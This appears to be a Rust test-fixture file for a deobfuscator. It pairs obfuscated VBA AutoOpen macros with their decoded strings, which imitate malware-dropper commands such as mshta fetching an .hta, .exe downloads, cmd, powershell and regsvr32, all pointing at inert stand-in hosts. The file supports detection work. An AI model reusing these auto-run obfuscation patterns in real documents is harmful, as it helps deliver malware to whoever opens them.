//! Texts behind a cipher of the author's own, its key beside it.

use super::{Case, case};

pub(super) const CASES: &[Case] = &[
    case(
        "exclusive or with a number",
        "https://example.invalid/xor.exe",
        r#"
Function Unlock(codes)
    Dim i, t
    For i = 0 To UBound(codes)
        t = t & Chr(codes(i) Xor 42)
    Next
    Unlock = t
End Function

Sub AutoOpen()
    Navigate Unlock(Array(66, 94, 94, 90, 89, 16, 5, 5, 79, 82, 75, 71, 90, 70, 79, 4, 67, 68, 92, 75, 70, 67, 78, 5, 82, 69, 88, 4, 79, 82, 79))
End Sub
"#,
    ),
    case(
        "exclusive or of hexadecimal digits",
        "cmd /c inert-xor-hex.invalid",
        r#"
Public Function X(ByVal data As String, ByVal key As Byte) As String
    Dim n As Long
    For n = 1 To Len(data) Step 2
        X = X & Chr$(CByte("&h" & Mid$(data, n, 2)) Xor key)
    Next n
End Function

Sub AutoOpen()
    Shell X("38363f7b74387b32353e292f7623342976333e237532352d3a37323f", &H5B), 0
End Sub
"#,
    ),
    case(
        "exclusive or with a word",
        "powershell inert-rolling.invalid",
        r#"
Function Roll(data As String, key As String) As String
    Dim i As Integer, k As Integer, c As Integer
    For i = 1 To Len(data) Step 2
        c = Val("&H" & Mid(data, i, 2))
        k = Asc(Mid(key, ((i \ 2) Mod Len(key)) + 1, 1))
        Roll = Roll & Chr(c Xor k)
    Next
End Function

Sub AutoOpen()
    Shell Roll("111a03101f1d091018194d070f100601401c0e19181c03094f1c1a030c020811", "autumn")
End Sub
"#,
    ),
    case(
        "exclusive or with a key that grows",
        "WScript.Shell",
        r#"
Sub AutoOpen()
    Dim v, i As Integer, s As String, k As Integer
    v = Array(92, 93, 114, 102, 126, 106, 105, 14, 112, 78, 76, 64, 67)
    k = 11
    For i = 0 To UBound(v)
        s = s & Chr(v(i) Xor (k And 127))
        k = k + 3
    Next
    Set o = CreateObject(s)
End Sub
"#,
    ),
    case(
        "letters shifted",
        "mshta https://example.invalid/shift.hta",
        r#"
Function Shift(ByVal t As String, ByVal n As Integer) As String
    Dim i As Integer
    For i = 1 To Len(t)
        Shift = Shift & Chr(Asc(Mid(t, i, 1)) - n)
    Next
End Function

Sub AutoOpen()
    Shell Shift("pvkwd#kwwsv=22h{dpsoh1lqydolg2vkliw1kwd", 3)
End Sub
"#,
    ),
    case(
        "letters shifted by their place",
        "inert/by/place",
        r#"
Sub AutoOpen()
    Dim c As String, i As Long, t As String
    c = "jphvu1e}0roedg"
    i = 1
    While i <= Len(c)
        t = t + Chr(Asc(Mid(c, i, 1)) - 1 - ((i - 1) Mod 4))
        i = i + 1
    Wend
    MsgBox t
End Sub
"#,
    ),
    case(
        "half the alphabet further",
        "https://example.invalid/thirteen",
        r#"
Function Rot(s)
    Dim i, c
    For i = 1 To Len(s)
        c = Asc(Mid(s, i, 1))
        Select Case c
            Case 65 To 90: c = (c - 65 + 13) Mod 26 + 65
            Case 97 To 122: c = (c - 97 + 13) Mod 26 + 97
        End Select
        Rot = Rot & Chr(c)
    Next
End Function

Sub AutoOpen()
    MsgBox Rot("uggcf://rknzcyr.vainyvq/guvegrra")
End Sub
"#,
    ),
    case(
        "an alphabet for another",
        "shell.application",
        r#"
Function Swap(text As String) As String
    Const plain = "abcdefghijklmnopqrstuvwxyz."
    Const other = "q.azwsxedcrfvtgbyhnujmikolp"
    Dim i As Integer
    For i = 1 To Len(text)
        Swap = Swap & Mid(plain, InStr(1, other, Mid(text, i, 1)), 1)
    Next i
End Function

Sub AutoOpen()
    Set o = CreateObject(Swap("newffpqbbfdaqudgt"))
End Sub
"#,
    ),
    case(
        "an alphabet for another, in an array filled by a loop",
        "inert-table",
        r#"
Dim table(255) As Byte

Sub Fill()
    Dim i As Integer
    For i = 0 To 255
        table(i) = (i * 7 + 5) Mod 256
    Next
End Sub

Sub AutoOpen()
    Dim n, s As String
    Fill
    For Each n In Array(124, 15, 160, 235, 89, 152, 89, 196, 123, 161, 160)
        s = s & Chr(table(n))
    Next
    MsgBox s
End Sub
"#,
    ),
    case(
        "every third letter",
        "https://example.invalid/third.exe",
        r#"
Function Pick(s As String, n As Integer) As String
    Dim i As Integer
    For i = 1 To Len(s) Step n
        Pick = Pick & Mid(s, i, 1)
    Next i
End Function

Sub AutoOpen()
    Navigate Pick("hqztkwtvjpxusqz:kw/vj/xueqzxkwavjmxupqzlkwevj.xuiqznkwvvjaxulqzikwdvj/xutqzhkwivjrxudqz.kwevjxxueqz", 3)
End Sub
"#,
    ),
    case(
        "letters where a remainder says so",
        "ADODB.Stream",
        r#"
Public Function Maze(ByVal t As String, ByVal m As Long) As String
    Dim p As Long, r As String
    p = 0
    Do
        p = p + 1
        If p > Len(t) Then Exit Do
        If p Mod m = 1 Then r = r & Mid$(t, p, 1)
    Loop
    Maze = r
End Function

Sub AutoOpen()
    Set s = CreateObject(Maze("AqzkwDvjxuOqzkwDvjxuBqzkw.vjxuSqzkwtvjxurqzkwevjxuaqzkwmvjxu", 5))
End Sub
"#,
    ),
    case(
        "neighbours swapped",
        "regsvr32 /s inert-swapped.invalid",
        r#"
Sub AutoOpen()
    Dim a As String, b As String, i As Long
    a = "ersgrv23/  snire-twspaep.dniavil d"
    For i = 1 To Len(a) Step 2
        b = b & Mid(a, i + 1, 1) & Mid(a, i, 1)
    Next
    Shell RTrim(b)
End Sub
"#,
    ),
    case(
        "two halves, a letter of each in turn",
        "https://example.invalid/halves.exe",
        r#"
Sub AutoOpen()
    Dim s$, t$, i&
    s$ = "hts/eapeivldhle.x"
    t$ = "tp:/xml.nai/avsee"
    For i& = 1 To Len(s$)
        u$ = u$ & Mid$(s$, i&, 1) & Mid$(t$, i&, 1)
    Next i&
    MsgBox u$
End Sub
"#,
    ),
    case(
        "base64 by a function of the author's own",
        "https://example.invalid/base64.exe",
        r#"
Private Const Letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"

Function Decode64(ByVal s As String) As String
    Dim i As Long, k As Long, group As Long, count As Long, c As String, out As String
    For i = 1 To Len(s) Step 4
        count = 3
        group = 0
        For k = 0 To 3
            c = Mid$(s, i + k, 1)
            If c = "=" Then
                count = count - 1
                group = group * 64
            Else
                group = group * 64 + InStr(1, Letters, c, vbBinaryCompare) - 1
            End If
        Next k
        out = out & Left$(Chr$(group \ 65536) & Chr$((group \ 256) And 255) & Chr$(group And 255), count)
    Next i
    Decode64 = out
End Function

Sub AutoOpen()
    Navigate Decode64("aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvYmFzZTY0LmV4ZQ==")
End Sub
"#,
    ),
    case(
        "base64 by a node of XML",
        "cmd /c inert-node.invalid",
        r#"
Function Decode64(s)
    Dim x, n
    Set x = CreateObject("MSXML2.DOMDocument")
    Set n = x.createElement("b64")
    n.DataType = "bin.base64"
    n.Text = s
    Decode64 = StrConv(n.nodeTypedValue, vbUnicode)
End Function

Sub AutoOpen()
    Shell Decode64("Y21kIC9jIGluZXJ0LW5vZGUuaW52YWxpZA==")
End Sub
"#,
    ),
    case(
        "base64 turned round, found by trying",
        "https://example.invalid/turned-and-coded.exe",
        r#"
Sub AutoOpen()
    s = StrReverse("=UGel5CZlR2bj1CZuFWLkVmbyVHdvQWasFmdulmLlxGctFGel9yL6MHc0RHa")
    Save s
End Sub
"#,
    ),
    case(
        "a sum over the key",
        "https://example.invalid/summed",
        r#"
Function KeyOf(word As String) As Long
    Dim i As Long
    For i = 1 To Len(word)
        KeyOf = KeyOf + Asc(Mid(word, i, 1))
    Next
    KeyOf = KeyOf Mod 97
End Function

Sub AutoOpen()
    Dim v As Variant, k As Long, out As String
    k = KeyOf("invoice")
    For Each v In Split("278 302 302 294 300 186 164 164 272 310 264 288 294 286 272 162 280 290 306 264 286 280 270 164 300 304 288 288 272 270", " ")
        out = out & Chr((CLng(v) - k) / 2)
    Next v
    MsgBox out
End Sub
"#,
    ),
];
